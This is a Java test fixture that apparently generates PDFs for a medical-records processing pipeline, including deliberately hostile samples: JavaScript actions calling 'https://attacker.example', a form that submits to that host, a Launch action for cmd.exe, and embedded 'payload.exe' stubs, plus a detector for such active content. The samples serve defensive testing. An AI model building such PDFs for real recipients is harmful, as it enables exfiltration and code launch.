package org.recordflow.records;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.IdentityHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSObject;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentCatalog;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionImportData;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionRemoteGoTo;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.action.PDDocumentCatalogAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.action.PDFormFieldAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.action.PDPageAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDDocumentOutline;
import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDOutlineItem;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDField;
import org.apache.pdfbox.pdmodel.interactive.form.PDPushButton;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;
import org.apache.pdfbox.text.PDFTextStripper;

/** Packets generated for tests: one entry per page, each page's lines of text; {@link #SCAN} draws no text. */
final class TestPdfs {

    /** A page with a picture-like drawing and no text layer, as a scanner produces. */
    static final String SCAN = "\u0000scan";

    private TestPdfs() {
    }

    static List<String> page(String... lines) {
        return Arrays.asList(lines);
    }

    @SafeVarargs
    static byte[] packet(List<String>... pages) {
        return packet(Arrays.asList(pages));
    }

    static byte[] packet(List<List<String>> pages) {
        try (PDDocument document = new PDDocument()) {
            write(document, pages);
            return bytesOf(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static void packet(List<List<String>> pages, Path file) {
        try (PDDocument document = new PDDocument()) {
            write(document, pages);
            document.save(file.toFile());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static byte[] encrypted(String userPassword) {
        try (PDDocument document = new PDDocument()) {
            write(document, List.of(page("Progress note", "Date of service: 03/14/2024")));
            var policy = new StandardProtectionPolicy("owner-secret", userPassword, new AccessPermission());
            policy.setEncryptionKeyLength(128);
            document.protect(policy);
            return bytesOf(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /**
     * A packet encrypted for certificate holders (public-key security, filter /Adobe.PubSec), as a
     * provider's secure-mail gateway may send it: a plain packet whose trailer carries the encryption
     * dictionary. Only the recipient's private key could open it; PDFBox needs BouncyCastle to try.
     */
    static byte[] certificateEncrypted() {
        try (PDDocument document = new PDDocument()) {
            write(document, List.of(page("Progress note", "Date of service: 03/14/2024")));
            var out = new ByteArrayOutputStream();
            document.save(out, CompressParameters.NO_COMPRESSION);
            String pdf = out.toString(StandardCharsets.ISO_8859_1);
            int trailer = pdf.indexOf("<<", pdf.lastIndexOf("trailer")) + 2;
            String encrypt = "\n/Encrypt << /Filter /Adobe.PubSec /SubFilter /adbe.pkcs7.s5 /V 4 /Length 128"
                    + " /CF << /DefaultCryptFilter << /CFM /AESV2 /Recipients [<3082010a02820101>] >> >>"
                    + " /StmF /DefaultCryptFilter /StrF /DefaultCryptFilter >>"
                    + "\n/ID [<0123456789abcdef0123456789abcdef> <0123456789abcdef0123456789abcdef>]\n";
            return (pdf.substring(0, trailer) + encrypt + pdf.substring(trailer)).getBytes(StandardCharsets.ISO_8859_1);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /**
     * A packet as a hostile or careless producer might send it: the given pages, with JavaScript on
     * opening and closing, a JavaScript name tree, an embedded executable, a page-open script, links
     * that launch a program, open a URL, another PDF and an embedded one, a file attachment, a form
     * with XFA, a field script and buttons that submit and import data, a bookmark running JavaScript,
     * and one harmless in-document link whose action chain continues with JavaScript.
     */
    static byte[] withActiveContent(List<List<String>> pages) {
        try (PDDocument document = new PDDocument()) {
            write(document, pages);
            addDocumentScriptsAndFiles(document);
            PDPage first = document.getPage(0);
            var pageOpen = new PDPageAdditionalActions();
            pageOpen.setO(javaScript("this.print()"));
            first.getCOSObject().setItem(COSName.AA, pageOpen);
            addLinksAndAttachment(document, first);
            addFormWithScriptsAndSubmission(document, first);
            var outline = new PDDocumentOutline();
            var bookmark = new PDOutlineItem();
            bookmark.setTitle("Records");
            bookmark.setAction(javaScript("app.alert('bookmark')"));
            outline.addLast(bookmark);
            document.getDocumentCatalog().setDocumentOutline(outline);
            return bytesOf(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static void addDocumentScriptsAndFiles(PDDocument document) throws IOException {
        PDDocumentCatalog catalog = document.getDocumentCatalog();
        catalog.setOpenAction(javaScript("app.alert('opened')"));
        var closing = new PDDocumentCatalogAdditionalActions();
        closing.setWC(javaScript("app.alert('closing')"));
        catalog.getCOSObject().setItem(COSName.AA, closing);
        var scripts = new PDJavascriptNameTreeNode();
        scripts.setNames(Map.of("init", javaScript("app.launchURL('https://attacker.example')")));
        var embedded = new PDEmbeddedFilesNameTreeNode();
        embedded.setNames(Map.of("payload", embeddedFile(document, "payload.exe")));
        var names = new PDDocumentNameDictionary(catalog);
        names.setJavascript(scripts);
        names.setEmbeddedFiles(embedded);
        catalog.setNames(names);
    }

    /** Links that launch, open a URL, another PDF and an embedded one, and one in-document link chained to JavaScript. */
    private static void addLinksAndAttachment(PDDocument document, PDPage page) throws IOException {
        var launch = new PDActionLaunch();
        launch.setFile(fileNamed("cmd.exe"));
        var uri = new PDActionURI();
        uri.setURI("https://attacker.example/collect");
        var remote = new PDActionRemoteGoTo();
        remote.setFile(fileNamed("other.pdf"));
        var embeddedGoTo = new COSDictionary();
        embeddedGoTo.setItem(COSName.S, COSName.getPDFName("GoToE"));
        var toPage = new PDActionGoTo();
        var destination = new PDPageFitDestination();
        destination.setPage(page);
        toPage.setDestination(destination);
        toPage.setNext(List.of(javaScript("app.alert('chained')")));
        List<PDAnnotation> annotations = page.getAnnotations();
        for (PDAction action : List.of(launch, uri, remote, new PDActionGoTo(embeddedGoTo), toPage)) {
            var link = new PDAnnotationLink();
            link.setRectangle(new PDRectangle(72, 72, 100, 20));
            link.setAction(action);
            annotations.add(link);
        }
        var attachment = new PDAnnotationFileAttachment();
        attachment.setRectangle(new PDRectangle(200, 72, 20, 20));
        attachment.setFile(embeddedFile(document, "invoice.exe"));
        annotations.add(attachment);
    }

    /** An AcroForm with XFA, a text field with a keystroke script, and buttons that submit and import data. */
    private static void addFormWithScriptsAndSubmission(PDDocument document, PDPage page) throws IOException {
        var form = new PDAcroForm(document);
        document.getDocumentCatalog().setAcroForm(form);
        form.getCOSObject().setItem(COSName.XFA, new COSStream());
        var field = new PDTextField(form);
        field.setPartialName("patient");
        var keystroke = new PDFormFieldAdditionalActions();
        keystroke.setK(javaScript("event.rc = false"));
        field.getCOSObject().setItem(COSName.AA, keystroke);
        var submitAction = new PDActionSubmitForm();
        submitAction.setFile(fileNamed("https://attacker.example/form"));
        var importAction = new PDActionImportData();
        importAction.setFile(fileNamed("data.fdf"));
        List<PDField> fields = List.of(field, button(form, "submit", submitAction), button(form, "import", importAction));
        for (PDField each : fields) {
            PDAnnotationWidget widget = each.getWidgets().get(0);
            widget.setRectangle(new PDRectangle(72, 300, 200, 20));
            widget.setPage(page);
            page.getAnnotations().add(widget);
        }
        form.setFields(fields);
    }

    private static PDPushButton button(PDAcroForm form, String name, PDAction action) {
        var button = new PDPushButton(form);
        button.setPartialName(name);
        button.getWidgets().get(0).setAction(action);
        return button;
    }

    static byte[] bytesOf(PDDocument document) throws IOException {
        var out = new ByteArrayOutputStream();
        document.save(out);
        return out.toByteArray();
    }

    private static PDSimpleFileSpecification fileNamed(String name) {
        var file = new PDSimpleFileSpecification();
        file.setFile(name);
        return file;
    }

    private static PDActionJavaScript javaScript(String script) {
        return new PDActionJavaScript(script);
    }

    private static PDComplexFileSpecification embeddedFile(PDDocument document, String name) throws IOException {
        var file = new PDComplexFileSpecification();
        file.setFile(name);
        file.setEmbeddedFile(new PDEmbeddedFile(document, new ByteArrayInputStream("MZ".getBytes(StandardCharsets.US_ASCII))));
        return file;
    }

    /**
     * What a viewer could run or open, found anywhere in a PDF's object tree: active keys by name
     * ({@code /OpenAction}), actions by type ({@code action /Launch}), attachment annotations.
     */
    static Set<String> activeContent(PDDocument document) {
        Set<String> found = new TreeSet<>();
        Set<COSBase> visited = Collections.newSetFromMap(new IdentityHashMap<>());
        collectActive(document.getDocument().getTrailer(), found, visited);
        return found;
    }

    private static void collectActive(COSBase node, Set<String> found, Set<COSBase> visited) {
        COSBase value = node instanceof COSObject indirect ? indirect.getObject() : node;
        if (value == null || !visited.add(value)) {
            return;
        }
        if (value instanceof COSArray array) {
            array.forEach(element -> collectActive(element, found, visited));
            return;
        }
        if (!(value instanceof COSDictionary dictionary)) {
            return;
        }
        for (String key : List.of("OpenAction", "AA", "JS", "JavaScript", "EmbeddedFiles", "EF", "XFA")) {
            if (dictionary.containsKey(key)) {
                found.add("/" + key);
            }
        }
        String action = dictionary.getNameAsString(COSName.S);
        if (action != null && List.of("Launch", "JavaScript", "SubmitForm", "ImportData", "GoToR", "GoToE", "URI")
                .contains(action)) {
            found.add("action /" + action);
        }
        if ("FileAttachment".equals(dictionary.getNameAsString(COSName.SUBTYPE))) {
            found.add("annotation /FileAttachment");
        }
        dictionary.getValues().forEach(child -> collectActive(child, found, visited));
    }

    private static void write(PDDocument document, List<List<String>> pages) throws IOException {
        var font = new PDType1Font(Standard14Fonts.FontName.HELVETICA);
        for (List<String> lines : pages) {
            PDPage page = new PDPage(PDRectangle.LETTER);
            document.addPage(page);
            try (var content = new PDPageContentStream(document, page)) {
                if (lines.size() == 1 && SCAN.equals(lines.get(0))) {
                    content.setNonStrokingColor(0.6f, 0.6f, 0.6f);
                    content.addRect(72, 200, 400, 450);
                    content.fill();
                    continue;
                }
                float y = 720;
                for (String line : lines) {
                    content.beginText();
                    content.setFont(font, 11);
                    content.newLineAtOffset(72, y);
                    content.showText(line);
                    content.endText();
                    y -= 16;
                }
            }
        }
    }

    /** The text of each page of a PDF, read back with PDFBox. */
    static List<String> pageTexts(Path file) {
        try (PDDocument document = Loader.loadPDF(file.toFile())) {
            List<String> texts = new ArrayList<>();
            var stripper = new PDFTextStripper();
            for (int i = 1; i <= document.getNumberOfPages(); i++) {
                stripper.setStartPage(i);
                stripper.setEndPage(i);
                texts.add(stripper.getText(document));
            }
            return texts;
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** Typical pages of a hospital production. */
    static List<String> edNote(String date) {
        return page("EMERGENCY DEPARTMENT NOTE", "Date of service: " + date, "Chief complaint: neck pain after collision",
                "Triage level 3", "DOB: 02/29/1984");
    }

    static List<String> continuation(String text) {
        return page(text, "Patient resting comfortably.");
    }

    static List<String> imaging(String date) {
        return page("RADIOLOGY REPORT", "Date of exam: " + date, "CT of the cervical spine", "Findings: no fracture",
                "Impression: normal study");
    }

    static List<String> bill(String... serviceDates) {
        List<String> lines = new ArrayList<>(List.of("ITEMIZED STATEMENT", "Statement of account"));
        for (String date : serviceDates) {
            lines.add(date + "   CPT 99284   ED visit   $1,250.00");
        }
        lines.add("Balance due: $2,500.00");
        return lines;
    }
}
